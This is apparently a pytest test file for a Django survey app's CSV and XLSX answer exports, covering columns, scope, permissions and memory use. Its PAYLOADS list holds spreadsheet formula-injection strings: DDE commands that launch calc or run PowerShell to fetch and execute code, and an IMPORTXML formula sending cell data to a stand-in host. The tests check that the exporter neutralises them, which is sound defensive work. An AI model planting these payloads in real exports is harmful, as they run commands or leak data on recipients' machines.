"""Exports of the raw submitted answers: columns, values, scope, formula neutralisation, flat memory."""

import csv
import io
import time
import tracemalloc
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from consult.models import Position, RegionalGrouping
from consult.services import exports
from consult.services.demo_responses import demo_responses_generate
from consult.services.exports import responses_export_csv, responses_export_xlsx
from consult.services.positions import position_for
from surveys.models import Answer, Question, Response
from surveys.services import answers_for

from .factories import STATES, make_member_state, make_organisation, make_question

FIXED = ["respondent", "country", "region", "sub-region", "audience", "publication", "submitted_at", "receipt_number"]
STATE_CODES = [
    "1-overall", "1.1-budget", "1.1-channels", "1.1-priority", "1.1-implementation", "1.1-support", "1.1-practices",
    "1.2-priority", "1.2-implementation", "1.2-support", "1.2-practices",
]
SOCIETY_CODES = [
    "1.1-importance", "1.1-effectiveness", "1.1-own_work", "1.2-importance", "1.2-effectiveness", "1.2-own_work",
]
# What the payloads must never start with once exported (unless preceded by the apostrophe).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOADS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1",
    " \t+1", "\n=1", "\u3000=1", "\u200b=1", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', "=WEBSERVICE(\"http://x\")",
    "\t", "\rplain",
]


def submit(position, answers, **fields):
    """Give the position these answers (question code -> form value) and mark it submitted."""
    response = position.response
    questions = Question.objects.filter(survey_id=response.survey_id, is_current=True).prefetch_related("choices")
    by_code = {question.code: question for question in questions}
    Answer.objects.bulk_create(
        answer for code, value in answers.items() for answer in answers_for(response, by_code[code], value)
    )
    now = timezone.now()
    Response.objects.filter(pk=response.pk).update(status="submitted", submitted_at=now)
    defaults = {"status": "submitted", "submitted_at": now, "receipt_number": f"R-{position.pk.hex[:10]}"}
    Position.objects.filter(pk=position.pk).update(**(defaults | fields))
    return position


def survey_of(consultation, audience):
    return consultation.questionnaires.get(audience=audience).survey


@pytest.fixture
def answered(consultation):
    """Two submitted states, a reopened one, a draft; two submitted organisations and a draft one."""
    survey = survey_of(consultation, "member_state")
    make_question(survey, "1.1-channels", Question.Type.MULTIPLE_CHOICE, ("radio", "press", "online"), order=2)
    make_question(survey, "1.1-budget", Question.Type.NUMBER, (), order=2)
    france, senegal, mexico, jordan = (make_member_state(iso3) for iso3 in ["FRA", "SEN", "MEX", "JOR"])
    submit(position_for(consultation=consultation, member_state=france), {
        "1-overall": "support", "1.1-priority": "4", "1.1-channels": ["online", "radio"],
        "1.1-budget": Decimal("-12.50"), "1.1-practices": 'A plan, "agreed"\nwith; commas, and lines',
        "1-ranking": {"1.2": 1, "1.1": 2},
    }, receipt_number="HLD-FRA-1")
    submit(position_for(consultation=consultation, member_state=senegal), {"1-overall": "do_not_support"})
    submit(position_for(consultation=consultation, member_state=jordan), {"1-overall": "support"}, status="reopened")
    position_for(consultation=consultation, member_state=mexico).response.answers.create(
        question=Question.objects.get(survey=survey, code="1.1-practices"), text="draft text"
    )
    organisations = [make_organisation(name="Diaspora Forum", country="FR"), make_organisation(name="Dakar Aid")]
    submit(position_for(consultation=consultation, organisation=organisations[0]),
           {"1-overall": "support", "1.1-importance": "5", "1-ranking": {"1.1": 1, "1.2": 2}}, publication="anonymous")
    submit(position_for(consultation=consultation, organisation=organisations[1]), {"1.1-own_work": "Training"})
    position_for(consultation=consultation, organisation=make_organisation(name="Draft Org"))
    return consultation


def csv_table(consultation, **kwargs):
    stream = io.StringIO()
    responses_export_csv(consultation=consultation, stream=stream, **kwargs)
    return parsed_csv(stream.getvalue())


def parsed_csv(text):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), quoting=csv.QUOTE_STRINGS))


def xlsx_table(consultation, path, **kwargs):
    responses_export_xlsx(consultation=consultation, path=path, **kwargs)
    sheet = load_workbook(path).active
    return [list(row) for row in sheet.values], [cell for row in sheet.iter_rows() for cell in row]


def by_respondent(table):
    header, *rows = table
    return {row[0]: dict(zip(header, row)) for row in rows}


def test_csv_has_both_audiences_columns_in_questionnaire_order(answered):
    header = csv_table(answered)[0]
    codes = {audience: list(survey_of(answered, audience).current_questions().values_list("code", flat=True))
             for audience in ["member_state", "civil_society"]}

    assert header[:8] == FIXED
    assert header[8:27] == [*STATE_CODES, *SOCIETY_CODES, "1-ranking", "2-overall"]
    assert set(header[8:]) == {*codes["member_state"], *codes["civil_society"]}
    assert len(header) == len(set(header))


def test_csv_has_one_row_per_submitted_response_with_its_values(answered):
    rows = by_respondent(csv_table(answered))

    assert set(rows) == {"France", "Senegal", "Diaspora Forum", "Dakar Aid"}
    france = rows["France"]
    assert (france["country"], france["region"], france["sub-region"]) == ("FRA", "Europe", "Western Europe")
    assert (france["audience"], france["publication"], france["receipt_number"]) == ("member_state", "attributed",
                                                                                    "HLD-FRA-1")
    assert france["1.1-priority"] == 4 and france["1.1-budget"] == -12.5
    assert france["1-overall"] == "support" and france["1.1-channels"] == "radio; online"
    assert france["1-ranking"] == "1.2 > 1.1"
    assert france["1.1-practices"] == 'A plan, "agreed"\nwith; commas, and lines'
    assert france["1.2-priority"] is None and france["1.1-importance"] is None
    forum = rows["Diaspora Forum"]
    assert (forum["country"], forum["region"], forum["audience"]) == ("FR", "Europe", "civil_society")
    assert (forum["1.1-importance"], forum["1-ranking"], forum["publication"]) == (5, "1.1 > 1.2", "anonymous")
    assert rows["Dakar Aid"]["region"] == "Africa" and rows["Dakar Aid"]["1.1-own_work"] == "Training"


def test_an_audience_export_has_only_its_rows_and_columns(answered):
    header, *rows = csv_table(answered, audience="civil_society")
    assert {row[0] for row in rows} == {"Diaspora Forum", "Dakar Aid"}
    assert "1.1-priority" not in header and header[8:16] == ["1-overall", *SOCIETY_CODES, "1-ranking"]


def test_a_grouping_export_has_its_states_and_the_organisations_of_their_countries(answered):
    europe = RegionalGrouping.objects.get(code="m49-150")
    assert {row[0] for row in csv_table(answered, grouping=europe)[1:]} == {"France", "Diaspora Forum"}


def test_xlsx_has_the_same_table_with_numbers_as_numbers(answered, tmp_path):
    table, cells = xlsx_table(answered, tmp_path / "answers.xlsx")
    rows = by_respondent(table)
    assert table[0] == csv_table(answered)[0]
    assert set(rows) == {"France", "Senegal", "Diaspora Forum", "Dakar Aid"}
    assert rows["France"]["1.1-budget"] == -12.5 and rows["France"]["1.1-priority"] == 4
    assert rows["France"]["1.1-practices"] == 'A plan, "agreed"\nwith; commas, and lines'
    assert rows["France"]["submitted_at"].year == timezone.now().year


def test_a_coordinator_downloads_only_the_rows_of_their_region(client, answered, coordinator_africa):
    client.force_login(coordinator_africa)
    response = client.get(reverse("consult:responses-export", kwargs={"slug": answered.slug, "format": "csv"}))
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment; filename=")
    table = parsed_csv(b"".join(response.streaming_content).decode("utf-8"))
    assert {row[0] for row in table[1:]} == {"Senegal", "Dakar Aid"}


def test_the_secretariat_downloads_an_audience_as_xlsx(client, answered, officer, tmp_path):
    client.force_login(officer)
    url = reverse("consult:responses-export", kwargs={"slug": answered.slug, "format": "xlsx"})
    response = client.get(url, {"audience": "member_state"})
    assert response.status_code == 200 and 'hld-responses-member_state-' in response["Content-Disposition"]
    (tmp_path / "download.xlsx").write_bytes(b"".join(response.streaming_content))
    rows = list(load_workbook(tmp_path / "download.xlsx").active.values)
    assert sorted(row[0] for row in rows[1:]) == ["France", "Senegal"]
    assert client.get(url, {"audience": "nobody"}).status_code == 404


def test_the_command_writes_csv_to_stdout_and_xlsx_to_a_file(answered, tmp_path):
    out, err = io.StringIO(), io.StringIO()
    call_command("export_responses", "hld", "--format", "csv", "--audience", "member_state", stdout=out, stderr=err)
    assert sorted(row[0] for row in parsed_csv(out.getvalue())[1:]) == ["France", "Senegal"]
    assert "Exported 2 responses" in err.getvalue()
    call_command("export_responses", "hld", "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"), stderr=err)
    assert len(list(load_workbook(tmp_path / "a.xlsx").active.values)) == 5


def is_formula(value):
    return isinstance(value, str) and (value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS))


@pytest.fixture
def hostile(consultation):
    """Payloads as question codes, choice values, organisation names, receipt numbers and answers."""
    states_survey = survey_of(consultation, "member_state")
    for order, payload in enumerate(PAYLOADS):
        make_question(states_survey, payload, Question.Type.SHORT_TEXT, (), text=payload, order=100 + order)
    make_question(survey_of(consultation, "civil_society"), "choice", choices=PAYLOADS, order=100)
    submit(position_for(consultation=consultation, member_state=make_member_state("FRA")),
           {payload: payload + ', "quoted",\nnext line' for payload in PAYLOADS})
    for number, payload in enumerate(PAYLOADS):
        organisation = make_organisation(name=payload, country="SN")
        submit(position_for(consultation=consultation, organisation=organisation),
               {"choice": payload, "1.1-own_work": payload}, receipt_number=f"{payload[:24]}#{number}")
    return consultation


def test_no_csv_cell_or_header_can_run_as_a_formula(hostile):
    header, *rows = csv_table(hostile)
    assert len(rows) == len(PAYLOADS) + 1
    assert all(len(row) == len(header) for row in rows), "a comma, quote or newline merged or split columns"
    cells = [cell for row in [header, *rows] for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []
    for payload in PAYLOADS:
        assert "'" + payload in header and cells.count("'" + payload) >= 3, repr(payload)


def test_no_xlsx_cell_or_header_can_run_as_a_formula(hostile, tmp_path):
    table, cells = xlsx_table(hostile, tmp_path / "hostile.xlsx")
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or is_formula(cell.value)] == []
    assert all(len(row) == len(table[0]) for row in table)
    values = [cell.value for cell in cells]
    for payload in PAYLOADS:
        assert "'" + payload in table[0] and values.count("'" + payload) >= 3, repr(payload)


def test_characters_a_workbook_forbids_are_dropped_not_fatal(answered, tmp_path):
    france = Position.objects.get(member_state__iso3="FRA")
    france.response.answers.filter(question__code="1.1-practices").update(text="\x07=1 bell\x0b")
    rows = by_respondent(xlsx_table(answered, tmp_path / "bell.xlsx")[0])
    assert rows["France"]["1.1-practices"] == "'=1 bell\n"  # Word's line break (U+000B) stays a line break


def export_peak(consultation, format, tmp_path):
    """Export once and return (rows, peak bytes traced, seconds)."""
    sink = tmp_path / f"export.{format}"
    tracemalloc.start()
    started = time.perf_counter()
    if format == "csv":
        with open(sink, "w", encoding="utf-8", newline="") as stream:
            rows = responses_export_csv(consultation=consultation, stream=stream)
    else:
        rows = responses_export_xlsx(consultation=consultation, path=sink)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return rows, peak, seconds


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_peak_memory_stays_flat_as_responses_grow(consultation, monkeypatch, tmp_path, format):
    monkeypatch.setattr(exports, "CHUNK", 50)
    for iso3 in STATES:
        make_member_state(iso3)
    demo_responses_generate(consultation=consultation, states=0, organisations=270, seed=1)
    export_peak(consultation, format, tmp_path)  # Warm up: imports and caches are not what grows.
    small_rows, small_peak, _ = export_peak(consultation, format, tmp_path)
    demo_responses_generate(consultation=consultation, states=0, organisations=2700, seed=2)
    large_rows, large_peak, _ = export_peak(consultation, format, tmp_path)

    assert small_rows >= 150 and large_rows >= 8 * small_rows
    assert large_peak < 1.5 * small_peak, f"{small_rows} rows: {small_peak} B, {large_rows} rows: {large_peak} B"
